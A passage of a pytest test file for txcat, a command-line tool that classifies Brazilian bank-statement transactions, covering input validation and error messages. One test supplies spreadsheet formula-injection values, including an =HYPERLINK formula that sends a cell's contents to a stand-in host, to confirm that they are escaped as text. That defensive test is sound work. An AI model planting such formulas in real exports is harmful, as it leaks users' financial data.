    rows += [f"02/09/2024,-{i}.00,Bar Lua {i},LAZER,TRABALHO" for i in range(1, 5)]
    labeled = tmp_path / "rotulado.csv"
    labeled.write_text(f"data,valor,descricao,{header}\n" + "\n".join(rows) + "\n",
                       encoding="utf-8")
    code, _, err = run("train", str(labeled), "-o", str(tmp_path / "m"))
    assert code == 0, err
    second_name = "label_2" if second == first else second
    assert (f"rotulado.csv: columns '{first}' and '{second_name}' both look like the label "
            f"column; '{first}' is used (name another with --label-column)") in err


def test_txcat_label_beside_a_label_column_is_pointed_out(tmp_path: Path) -> None:
    """A statement with a 'label' column of its own, classified with --format full,
    gets txcat's answers as 'txcat_label'. A user who corrected those and trained got
    a model of the old 'label' column, and no word of it."""
    statement = tmp_path / "extrato.csv"
    statement.write_text("data,valor,descricao,label\n" + "".join(
        f"01/09/2024,-{i}.00,{name} {i},\n" for i in range(1, 5)
        for name in ("Padaria Sol", "Bar Lua")), encoding="utf-8")
    revisao = tmp_path / "revisao.csv"
    assert run("classify", str(statement), "--format", "full", "-o", str(revisao))[0] == 0
    assert revisao.read_text(encoding="utf-8").splitlines()[0] == \
        "data,valor,descricao,label,txcat_label,confidence"
    code, _, err = run("train", str(revisao), "-o", str(tmp_path / "m"))
    assert code == 1
    assert ("revisao.csv: columns 'label' and 'txcat_label' both look like the label "
            "column; 'label' is used (name another with --label-column)") in err
    code, _, err = run("train", str(revisao), "--label-column", "txcat_label",
                       "-o", str(tmp_path / "m"))
    assert code == 0, err
    assert "look like the label column" not in err


def test_a_model_that_would_answer_labels_outside_the_set_is_not_saved(tmp_path: Path) -> None:
    """zero-shot takes its labels from its descriptions: one for SAUDE, with the set
    left at the default three, would print SAUDE rows no one asked for."""
    descriptions = tmp_path / "desc.json"
    descriptions.write_text(json.dumps({"LAZER": ["bar"], "NECESSIDADE": ["mercado"],
                                        "TRABALHO": ["posto"], "SAUDE": ["hospital"]}))
    code, _, err = run("train", str(SAMPLES / "labeled" / "c6.csv"), "--strategy", "zero-shot",
                       "-p", f"descriptions_file={descriptions}", "-o", str(tmp_path / "z"))
    assert code == 1
    assert ("zero-shot answers SAUDE, which is not in the label set (LAZER, NECESSIDADE, "
            "TRABALHO); add it with --labels, or leave it out") in err
    assert not (tmp_path / "z").exists()


@pytest.mark.parametrize("command", [["train", "-", "-", "-o", "m"], ["bench", "-", "-"],
                                     ["export", "-", "-", "--format", "alpaca", "-o", "t.jsonl"]])
def test_standard_input_given_twice_is_a_usage_error_for_every_command(
        command: list[str]) -> None:
    result = CliRunner().invoke(main, command, input="data,valor,descricao,label\n")
    assert result.exit_code == 2, result.output
    assert "'-' (standard input) is given more than once" in result.stderr


def test_check_jsonl_reads_standard_input_like_the_other_commands() -> None:
    line = json.dumps({"instruction": "x", "input": "Padaria Sol", "output": "NECESSIDADE"})
    result = CliRunner().invoke(main, ["check-jsonl", "-", "--format", "alpaca"],
                                input=(line + "\n") * 12)
    assert "<stdin>: 12 examples (LAZER 0, NECESSIDADE 12, TRABALHO 0)" in result.stdout


def test_the_label_column_read_as_the_description_is_refused(tmp_path: Path) -> None:
    """The model would learn each row's label from the label itself: 100% on
    its own rows, and nothing for a statement."""
    labeled = SAMPLES / "labeled" / "c6.csv"
    code, _, err = run("train", str(labeled), "--description-column", "label",
                       "-o", str(tmp_path / "m"))
    assert code == 1
    assert "c6.csv: the label column 'label' is also read as the description" in err
    assert not (tmp_path / "m").exists()



def test_checking_the_output_before_training_creates_no_folders(tmp_path: Path) -> None:
    """The check makes and removes a test folder where the nearest folder exists; a
    run that then fails (here on its labels) leaves no empty 'a/b' behind."""
    code, _, err = run("train", str(SAMPLES / "labeled" / "c6.csv"), "--labels", "FOO,BAR",
                       "-o", str(tmp_path / "a" / "b" / "m"))
    assert code == 1, err
    assert list(tmp_path.iterdir()) == []


def test_a_month_with_no_transactions_in_a_folder_is_skipped_with_a_warning(
        tmp_path: Path) -> None:
    """A header-only export is a month with no rows, not a reason to classify nothing;
    given alone, it is still an error (the wrong file, most likely)."""
    folder = tmp_path / "meses"
    folder.mkdir()
    (folder / "2024-09.csv").write_text(
        "data,valor,codigo,descricao\n03/09/2024,-30.50,d5g489fc,Mercado Econômico\n",
        encoding="utf-8")
    (folder / "2024-10.csv").write_text("data,valor,codigo,descricao\n", encoding="utf-8")
    result = CliRunner().invoke(main, ["classify", str(folder)])
    assert result.exit_code == 0, result.output
    assert result.stdout.splitlines() == ["código,informação", "d5g489fc,NECESSIDADE"]
    assert "2024-10.csv: no data rows after the header (line 1); skipped" in result.stderr
    alone = CliRunner().invoke(main, ["classify", str(folder / "2024-10.csv")])
    assert alone.exit_code == 1 and "no data rows after the header" in alone.stderr


def test_train_skips_a_month_with_no_rows_among_its_files(tmp_path: Path) -> None:
    from txcat.training import read_labeled

    (tmp_path / "vazio.csv").write_text("data,valor,codigo,descricao,label\n",
                                        encoding="utf-8")
    data = read_labeled([tmp_path / "vazio.csv", SAMPLES / "labeled" / "c6.csv"])
    assert len(data.labels) > 100


def test_card_bill_reads_positive_purchases_as_money_out(tmp_path: Path) -> None:
    """Inter, C6 and Bradesco card bills list purchases as positive amounts; read as
    they are, a purchase is money coming in (and is labeled as income)."""
    bill = tmp_path / "fatura.csv"
    bill.write_text("Data;Histórico;Valor(US$);Valor(R$)\n"
                    "01/10/2026;LOJA EXEMPLO;0,00;150,90\n"
                    "02/10/2026;ESTORNO LOJA EXEMPLO;0,00;-150,90\n", encoding="utf-8")
    args = ["classify", str(bill), "--amount-column", "Valor(R$)", "--format", "jsonl"]
    as_read = [json.loads(line) for line in CliRunner().invoke(main, args).stdout.splitlines()]
    flipped = CliRunner().invoke(main, [*args, "--card-bill"])
    assert flipped.exit_code == 0, flipped.output
    rows = [json.loads(line) for line in flipped.stdout.splitlines()]
    assert [r["amount"] for r in as_read] == [150.9, -150.9]
    assert [r["amount"] for r in rows] == [-150.9, 150.9]
    assert "--card-bill" in CliRunner().invoke(main, ["classify", "--help"]).output


@pytest.mark.parametrize("option", [["--description-column", "Histórico"], ["--card-bill"]])
def test_reading_options_the_ray_engine_cannot_honour_are_refused(
        option: list[str], tmp_path: Path) -> None:
    result = CliRunner().invoke(main, ["classify", str(SAMPLES / "extrato.csv"),
                                       "--engine", "ray", "-o", str(tmp_path / "out"),
                                       *option])
    assert result.exit_code == 2
    assert "the column options and --card-bill are not supported" in result.output


def test_train_warns_about_rows_labeled_two_ways(tmp_path: Path) -> None:
    """The same row (description and amount) with two labels is the labelling slip a
    user most needs to hear about: the model learns neither."""
    labeled = tmp_path / "rotulado.csv"
    labeled.write_text(
        "data,valor,codigo,descricao,label\n"
        "03/09/2024,-30.50,a1,Compra no débito - Mercado Econômico,NECESSIDADE\n"
        "04/09/2024,-30.50,a2,Compra no débito - Mercado Econômico,LAZER\n"
        "05/09/2024,-87.54,a3,Compra no crédito - Posto XYZ,TRABALHO\n"
        "06/09/2024,20.00,a4,Transferência recebida pelo Pix - LOJA DE DOCES,LAZER\n"
        "07/09/2024,-45.00,a5,Pix - JOAO,LAZER\n"
        "08/09/2024,3200.00,a6,Pix - JOAO,TRABALHO\n", encoding="utf-8")
    result = CliRunner().invoke(main, ["train", str(labeled), "-o", str(tmp_path / "m")])
    assert result.exit_code == 0, result.output
    assert ("1 row repeats another's description and amount with another label "
            "('Compra no débito - Mercado Econômico': LAZER, NECESSIDADE)") in result.stderr
    assert "JOAO" not in result.stderr  # other amounts: a friend's share and a salary


@pytest.mark.parametrize("labels, message", [
    ("LAZER,,NECESSIDADE,TRABALHO", "--labels has an empty name"),
    ("LAZER,NECESSIDADE,TRABALHO,lazer", "--labels names LAZER twice"),
])
def test_a_label_set_with_an_empty_or_repeated_name_is_refused(labels: str, message: str,
                                                               tmp_path: Path) -> None:
    result = CliRunner().invoke(main, ["train", str(SAMPLES / "labeled" / "c6.csv"),
                                       "--labels", labels, "-o", str(tmp_path / "m")])
    assert result.exit_code == 2 and message in result.output


@pytest.mark.parametrize("size, message", [("10.5", "'10.5' is not a whole number"),
                                           ("0", "'0' is not a positive number"),
                                           ("00", "'00' is not a positive number")])
def test_train_sizes_that_are_not_whole_numbers_are_named_so(size: str, message: str) -> None:
    result = CliRunner().invoke(main, ["bench", str(SAMPLES / "labeled" / "c6.csv"),
                                       "--strategies", "tfidf", "--train-sizes", size])
    assert result.exit_code == 2 and message in result.output


def test_an_empty_output_folder_name_is_a_usage_error() -> None:
    result = CliRunner().invoke(main, ["train", str(SAMPLES / "labeled" / "c6.csv"),
                                       "-o", ""])
    assert result.exit_code == 2 and "-o needs a folder name" in result.output


def test_a_library_warning_is_one_txcat_line_without_the_library_path(
        tmp_path: Path) -> None:
    result = CliRunner().invoke(main, ["train", str(SAMPLES / "labeled" / "c6.csv"),
                                       "-p", "C=1e-300", "-o", str(tmp_path / "m")])
    assert "ConvergenceWarning" in result.stderr
    assert "site-packages" not in result.stderr and "sklearn/" not in result.stderr
    assert all(line.startswith("txcat:") or not line.strip() or line.startswith(" ")
               for line in result.stderr.splitlines())


def test_a_cell_a_spreadsheet_would_run_as_a_formula_is_written_as_text(
        tmp_path: Path) -> None:
    """A Pix payer names himself; a name such as =HYPERLINK(...) would run when the
    output is opened in a spreadsheet. Numbers, negative ones included, stay numbers."""
    statement = tmp_path / "extrato.csv"
    statement.write_text(
        "data,valor,codigo,descricao\n"
        '03/09/2024,-30.50,=1+1,"=HYPERLINK(""http://x.example/?d=""&A1,""ver"")"\n'
        "04/09/2024,20.00,@SUM(A1),+CADASTRO -PIX\n", encoding="utf-8")
    result = CliRunner().invoke(main, ["classify", str(statement), "--format", "full"])
    assert result.exit_code == 0, result.output
    rows = list(csv.reader(io.StringIO(result.stdout)))
    assert rows[1][:4] == ["03/09/2024", "-30.50", "'=1+1",
                           "'=HYPERLINK(\"http://x.example/?d=\"&A1,\"ver\")"]
    assert rows[2][1:4] == ["20.00", "'@SUM(A1)", "'+CADASTRO -PIX"]
    plain = CliRunner().invoke(main, ["classify", str(statement)])
    assert [r[0] for r in csv.reader(io.StringIO(plain.stdout))][1:] == ["'=1+1", "'@SUM(A1)"]
    jsonl = CliRunner().invoke(main, ["classify", str(statement), "--format", "jsonl"])
    assert json.loads(jsonl.stdout.splitlines()[0])["id"] == "=1+1"  # data, not a sheet


def test_a_label_column_named_like_a_description_column_is_read_as_the_label(
        tmp_path: Path) -> None:
    """A CSV of no known layout reads every description-like column ('Tipo' too): the
    one named by --label-column is the label, not part of the description."""
    from txcat.training import read_labeled

    labeled = tmp_path / "rotulado.csv"
    labeled.write_text("Data;Descrição;Valor;Tipo\n01/10/2024;Padaria Real;-10,00;NECESSIDADE\n"
                       "02/10/2024;Cinema Sol;-30,00;LAZER\n", encoding="utf-8")
    data = read_labeled([labeled], label_column="Tipo")
    assert [t.description for t in data.transactions] == ["Padaria Real", "Cinema Sol"]
    assert data.labels == ["NECESSIDADE", "LAZER"]


def test_several_files_none_of_which_has_a_row_is_an_error(tmp_path: Path) -> None:
    for month in ("09", "10"):
        (tmp_path / f"2024-{month}.csv").write_text("data,valor,codigo,descricao\n",
                                                     encoding="utf-8")
    result = CliRunner().invoke(main, ["classify", str(tmp_path)])
    assert result.exit_code == 1
    assert "no transaction rows in any of the 2 files" in result.stderr
    assert "training" not in result.stderr  # no model is built for nothing


@pytest.mark.parametrize("size", ["²", "+5"])
def test_odd_train_sizes_are_usage_errors(size: str) -> None:
    result = CliRunner().invoke(main, ["bench", str(SAMPLES / "labeled" / "c6.csv"),
                                       "--strategies", "tfidf", "--train-sizes", size])
    assert result.exit_code == 2 and "--train-sizes" in result.output


def test_a_statement_of_only_balance_rows_is_no_transaction_to_classify(
        tmp_path: Path) -> None:
    statement = tmp_path / "bb.csv"
    statement.write_text('"Data","Lançamento","Detalhes","Nº documento","Valor","Tipo Lançamento"\n'
                         '"31/08/2026","Saldo Anterior","","","200,00",""\n',
                         encoding="utf-8")
    result = CliRunner().invoke(main, ["classify", str(statement)])
    assert result.exit_code == 1 and "no transaction rows" in result.stderr


@pytest.mark.parametrize("args", [
    ["classify", EXTRATO, "--threshold", "nan"],
    ["bench", str(SAMPLES / "labeled" / "c6.csv"), "--strategies", "tfidf", "--test-size", "nan"],
])
def test_a_number_option_of_nan_is_a_usage_error(args: list[str]) -> None:
    """nan is in no range, yet compares False with both ends: --threshold nan put no row
    below it and labeled every row, saying '0 of 560 rows below confidence nan'."""
    code, out, err = run(*args)
    assert code == 2
    assert "'nan' is not a number between 0" in err
    assert out == ""


def test_full_output_of_a_file_classified_before_names_each_column_once(
        tmp_path: Path) -> None:
    """Classifying a --format full output again (after retraining, to compare) wrote
    txcat_label twice: pandas and spreadsheets found the old answers under that name."""
    labeled = tmp_path / "labeled.csv"
    labeled.write_text("Data;Valor;Descrição;label\n01/09/2024;-1,00;PADARIA;LAZER\n",
                       encoding="utf-8")
    first = tmp_path / "first.csv"
    assert run("classify", str(labeled), "--format", "full", "-o", str(first))[0] == 0
    assert first.read_text(encoding="utf-8").splitlines()[0] == \
        "Data,Valor,Descrição,label,txcat_label,confidence"
    code, out, _ = run("classify", str(first), "--format", "full")
    assert code == 0
    assert out.splitlines()[0] == ("Data,Valor,Descrição,label,txcat_label,confidence,"
                                   "txcat_label_2,txcat_confidence")


@pytest.mark.parametrize("args", [
    ["train", "--label-column", "", "-o", "m"],
    ["bench", "--label-column", " "],
    ["classify", "--description-column", ""],
    ["classify", "--amount-column", ""],
])
def test_an_empty_column_name_is_a_usage_error(args: list[str]) -> None:
    """--label-column '' said 'no label column found (looked for label, ...)' beside a
    'label' column; --description-column '' was silently ignored."""
    command, option = args[0], args[1]
    result = CliRunner().invoke(main, [command, str(SAMPLES / "labeled" / "c6.csv"),
                                       *args[1:]])
    assert result.exit_code == 2, result.output
    assert f"{option} needs a column name" in result.output
